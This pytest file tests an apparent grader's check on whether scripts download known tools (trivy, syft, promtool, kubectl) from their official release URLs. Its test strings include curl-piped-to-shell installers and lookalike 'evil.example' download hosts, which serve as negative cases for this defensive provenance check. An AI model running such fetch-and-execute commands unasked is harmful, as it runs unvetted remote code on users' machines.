"""A file that is not in the submission is a known program when a command has fetched it from its makers."""

import pytest

from gradeline.facts.downloads import downloaded, tool_at

RELEASE = "https://github.com/aquasecurity/trivy/releases/download/v0.67.2/trivy_0.67.2_Linux-64bit.tar.gz"


@pytest.mark.parametrize(
    ("script", "programs"),
    [
        (f"curl -fsSL {RELEASE} | tar -xz trivy", {"trivy"}),
        (f"sudo wget -qO trivy.tgz '{RELEASE}'", {"trivy"}),
        ('V=0.67.2; curl -L "https://github.com/aquasecurity/trivy/releases/download/v$V/x.tgz" -o x.tgz', {"trivy"}),
        (f"FROM={RELEASE}\ncurl -fsSL $FROM | tar -xz", {"trivy"}),
        ("bash <(curl https://raw.githubusercontent.com/rhysd/actionlint/main/scripts/download.bash)", {"actionlint"}),
        ("curl -sSfL https://get.anchore.io/syft | sh -s -- -b .", {"syft"}),
        ("gh release download v3.8.0 -R prometheus/prometheus -p '*linux-amd64*'", {"promtool"}),
        ("gh release download --repo=Prometheus/Prometheus", {"promtool"}),
        ("if ! curl -fO https://dl.k8s.io/release/v1.34.1/bin/linux/amd64/kubectl; then exit 1; fi", {"kubectl"}),
        (f"echo curl {RELEASE}", set()),
        (f"# curl {RELEASE}", set()),
        ("curl https://github.com/someone/trivy/releases/download/v1/trivy", set()),
        ("curl https://evil.example/github.com/aquasecurity/trivy/releases/download/v1/trivy", set()),
        ("curl https://github.com/aquasecurity/trivy/blob/main/README.md", set()),
        ("curl https://get.helm.sh.evil.example/helm.tar.gz", set()),
        ("gh release view -R aquasecurity/trivy", set()),
    ],
)
def test_what_a_script_fetches_from_its_makers(script: str, programs: set[str]) -> None:
    assert downloaded([script]) == programs


@pytest.mark.parametrize(
    ("path", "tool"),
    [
        ("trivy", "trivy"),
        ("tools/trivy.exe", "trivy"),
        ("prometheus-3.8.0.linux-amd64/promtool", "promtool"),
        ("hadolint-Linux-x86_64", "hadolint"),
        ("opa_linux_amd64_static", "opa"),
        ("trivy_0.67.2_Linux-64bit", "trivy"),
        ("trivy-report.sh", None),
        ("trivy-linux-scan", None),
        ("trivyx", None),
        ("kubectl", None),
    ],
)
def test_which_downloaded_program_a_file_is(path: str, tool: str | None) -> None:
    assert tool_at(path, frozenset({"trivy", "promtool", "hadolint", "opa"})) == tool
